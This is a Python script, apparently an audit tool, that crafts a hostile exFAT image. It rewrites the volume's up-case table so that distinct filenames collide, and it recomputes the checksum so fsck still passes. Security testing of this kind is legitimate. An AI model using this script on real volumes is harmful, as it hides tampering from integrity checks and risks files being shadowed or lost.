#!/usr/bin/env python3
"""exfat_upcase_fold.py IMAGE [FROM TO]: a hostile exFAT volume (audit turn 3, H2).

Rewrites the up-case table of the exFAT filesystem in IMAGE (a file or an
unmounted block device) so that each character of FROM (ASCII; a letter
in either case) folds onto the character TO, by default the digits
'1'..'9' onto '0', and recomputes the table's checksum in its directory
entry: fsck.exfat still calls the volume clean, and exfat-fuse (and the
kernel's driver) then count IMG_0001.JPG and IMG_0002.JPG as one name.  Layout (exFAT spec 3.1, 7.2):
the boot sector gives BytesPerSectorShift (108), SectorsPerClusterShift
(109), ClusterHeapOffset (88) and FirstClusterOfRootDirectory (96); the
root directory's entry of type 0x82 gives the table's TableChecksum (+4),
FirstCluster (+20) and DataLength (+24).  The table must be contiguous and
uncompressed below U+0080, as mkfs.exfat writes it.
"""
import struct
import sys


def main(img, src='123456789', dst='0'):
    with open(img, 'r+b') as f:
        b = bytearray(f.read())
        bps = 1 << b[108]
        spc = 1 << b[109]
        heap = struct.unpack_from('<I', b, 88)[0]
        root = struct.unpack_from('<I', b, 96)[0]
        cs = bps * spc

        def coff(c):
            return heap * bps + (c - 2) * cs

        r = coff(root)
        e = next((r + i for i in range(0, cs, 32) if b[r + i] == 0x82), None)
        if e is None:
            sys.exit('%s: no up-case table entry in the root directory' % img)
        fc, = struct.unpack_from('<I', b, e + 20)
        ln, = struct.unpack_from('<Q', b, e + 24)
        t = coff(fc)
        ws = list(struct.unpack_from('<%dH' % (ln // 2), b, t))
        # a compressed table (0xFFFF, count) below U+0080 would shift the indices
        if 0xFFFF in ws[:0x80]:
            sys.exit('%s: the up-case table is compressed below U+0080' % img)
        for ch in src:
            for c in {ord(ch), ord(ch.upper()), ord(ch.lower())}:
                ws[c] = ord(dst)
        struct.pack_into('<%dH' % (ln // 2), b, t, *ws)
        chk = 0
        for x in b[t:t + ln]:
            chk = (((chk & 1) << 31) + (chk >> 1) + x) & 0xffffffff
        struct.pack_into('<I', b, e + 4, chk)
        f.seek(t)
        f.write(b[t:t + ln])
        f.seek(e)
        f.write(b[e:e + 32])


if __name__ == '__main__':
    if len(sys.argv) not in (2, 4) or (len(sys.argv) == 4 and len(sys.argv[3]) != 1):
        sys.exit('usage: exfat_upcase_fold.py IMAGE [FROM TO]')
    main(*sys.argv[1:])
